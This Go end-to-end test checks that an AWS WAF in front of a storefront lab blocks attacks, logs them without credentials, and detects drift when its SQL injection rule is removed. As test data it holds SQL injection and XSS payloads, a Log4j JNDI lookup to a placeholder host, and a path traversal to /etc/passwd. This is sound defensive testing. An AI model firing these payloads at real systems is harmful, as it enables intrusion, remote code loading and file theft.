package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs"
	"github.com/aws/aws-sdk-go-v2/service/wafv2"
	"github.com/aws/aws-sdk-go-v2/service/wafv2/types"
	"github.com/pulumi/pulumi/sdk/v3/go/auto/optup"
)

// What a client sends to prove who it is. It must not be found in the firewall's log.
const (
	firewallToken  = "Bearer e2e-firewall-token"
	firewallCookie = "session=e2e-firewall-cookie"
)

// send sends a request as a client of the shop does, and returns the status and the body of the answer.
func (d *deployment) send(ctx context.Context, method, path, agent, body string) (int, string, error) {
	r, err := http.NewRequestWithContext(ctx, method, d.url+path, strings.NewReader(body))
	if err != nil {
		return 0, "", err
	}
	for name, value := range map[string]string{"Authorization": firewallToken, "Cookie": firewallCookie, "User-Agent": agent, "Content-Type": "application/json", "Idempotency-Key": "firewall"} {
		r.Header.Set(name, value)
	}
	resp, err := client().Do(r)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(text), err
}

// browser is an ordinary user agent.
const browser = "Mozilla/5.0 (X11; Linux x86_64)"

// firewallBlocks sends attacks, which end at the load balancer, and what only looks a little like them, which does not.
func firewallBlocks(t *testing.T, d *deployment) {
	product := func(name string) string {
		b, err := json.Marshal(map[string]any{"name": name, "description": "", "price_cents": 100, "currency": "EUR", "stock": 10})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	query := func(q string) string { return "/products?q=" + url.QueryEscape(q) }
	for name, a := range map[string]struct{ method, path, agent, body string }{
		"SQL injection in a search":     {"GET", query("' OR 1=1--"), browser, ""},
		"SQL union in a search":         {"GET", query("x' union select password from users"), browser, ""},
		"SQL injection in a product":    {"PUT", "/products/firewall", browser, product("x' OR '1'='1")},
		"SQL injection in an order":     {"POST", "/orders", browser, `{"items":[{"product_id":"1' OR '1'='1","quantity":1}]}`},
		"a script in a search":          {"GET", query("<script>alert(1)</script>"), browser, ""},
		"a script in a product":         {"PUT", "/products/firewall", browser, product(`<img src=x onerror=alert(1)>`)},
		"a look-up of Log4j":            {"GET", "/products", "${jndi:ldap://198.51.100.1/x}", ""},
		"a path to another file":        {"POST", "/orders", browser, `{"items":[{"product_id":"../../etc/passwd","quantity":1}]}`},
		"a body that nobody could read": {"POST", "/orders", browser, `{"items":[]}` + strings.Repeat(" ", 8<<10)},
	} {
		if status, body, err := d.send(t.Context(), a.method, a.path, a.agent, a.body); err != nil || status != http.StatusForbidden || strings.Contains(body, "status") {
			t.Errorf("%s: %d %s, %v; want the load balancer's 403", name, status, body, err)
		}
	}
	const tea = `O'Reilly's "24" tea & co; 5' x 3'`
	for _, o := range []struct {
		method, path, body string
		status             int
	}{
		{"GET", "/products", "", 200}, {"GET", query("o'brien"), "", 200}, {"GET", query(`select a "round" table & chairs`), "", 200}, {"GET", "/summaries?q=teapot+accepted", "", 200},
		{"PUT", "/products/firewall", product(tea), 201}, {"POST", "/orders", `{"items":[{"product_id":"firewall","quantity":1}]}`, 202},
	} {
		eventually(t, o.method+" "+o.path, 30*time.Second, func() error { // the reader, which knows of the product, may be behind
			if status, body, err := d.send(t.Context(), o.method, o.path, browser, o.body); err != nil || status != o.status {
				return fmt.Errorf("%d %s, %w; want %d", status, body, err, o.status)
			}
			return nil
		})
	}
	var stored struct{ Name string }
	if err := getJSON(t.Context(), client(), d.url+"/products/firewall", &stored); err != nil || stored.Name != tea {
		t.Errorf("the product is named %q, %v", stored.Name, err)
	}
	d.firewallTells(t)
	d.firewallDrift(t)
}

// firewallTells looks for an attack in the log and among the samples. Neither token nor cookie is in the log.
func (d *deployment) firewallTells(t *testing.T) {
	t.Helper()
	eventually(t, "wait for the attack in the firewall's log", 30*time.Second, func() error {
		out, err := cloudwatchlogs.NewFromConfig(d.aws).FilterLogEvents(t.Context(), &cloudwatchlogs.FilterLogEventsInput{LogGroupName: &d.out.FirewallLogGroup})
		if err != nil {
			return err
		}
		found := false
		for _, e := range out.Events {
			if strings.Contains(*e.Message, "e2e-firewall") {
				t.Fatalf("the log has what proves who a client is: %s", *e.Message)
			}
			found = found || strings.Contains(*e.Message, `"terminatingRuleId":"sqli"`) && strings.Contains(*e.Message, "REDACTED")
		}
		if !found {
			return fmt.Errorf("%d entries, none of the injection", len(out.Events))
		}
		return nil
	})
	out, err := wafv2.NewFromConfig(d.aws).GetSampledRequests(t.Context(), &wafv2.GetSampledRequestsInput{WebAclArn: &d.out.WebACLARN, RuleMetricName: new("storefront-lab-firewall-sqli"), Scope: types.ScopeRegional, MaxItems: new(int64(10)),
		TimeWindow: &types.TimeWindow{StartTime: new(time.Now().Add(-time.Hour)), EndTime: new(time.Now())}})
	if err != nil || len(out.SampledRequests) == 0 {
		t.Errorf("no injection was sampled: %v, %v", out, err)
	}
}

// firewallDrift takes the rules against SQL injection out of the web ACL. The report has to tell, and an up to bring them back.
func (d *deployment) firewallDrift(t *testing.T) {
	t.Helper()
	api := wafv2.NewFromConfig(d.aws)
	parts := strings.Split(d.out.WebACLARN, "/") // arn:...:regional/webacl/name/id
	name, id := &parts[len(parts)-2], &parts[len(parts)-1]
	acl, err := api.GetWebACL(t.Context(), &wafv2.GetWebACLInput{Name: name, Id: id, Scope: types.ScopeRegional})
	if err != nil {
		t.Fatal(err)
	}
	rules := slices.DeleteFunc(slices.Clone(acl.WebACL.Rules), func(r types.Rule) bool { return *r.Name == "sqli" })
	if _, err := api.UpdateWebACL(t.Context(), &wafv2.UpdateWebACLInput{Name: name, Id: id, Scope: types.ScopeRegional, LockToken: acl.LockToken, DefaultAction: acl.WebACL.DefaultAction,
		Rules: rules, VisibilityConfig: acl.WebACL.VisibilityConfig}); err != nil {
		t.Fatal(err)
	}
	answers := func(want int) {
		t.Helper()
		eventually(t, fmt.Sprintf("an injection is answered %d", want), 30*time.Second, func() error {
			if status, body, err := d.send(t.Context(), "GET", "/products?q=%27+OR+1%3D1--", browser, ""); err != nil || status != want {
				return fmt.Errorf("%d %s, %w", status, body, err)
			}
			return nil
		})
	}
	answers(http.StatusOK) // the shop has no SQL to inject into
	out, status, err := d.run(t.Context(), "", "stack", "drift")
	if err != nil || status != 1 || !strings.Contains(out, "aws:wafv2/webAcl:WebAcl") || !strings.Contains(out, "rules") {
		t.Errorf("drift of the web ACL: status %d, %v\n%s\nwant status 1 and the rules named", status, err, out)
	}
	d.planIsKept(t)
	if _, err := d.stack.Up(t.Context(), optup.ConfigFile(d.config), optup.Refresh()); err != nil {
		t.Fatalf("repairing: %v", err)
	}
	answers(http.StatusForbidden)
}
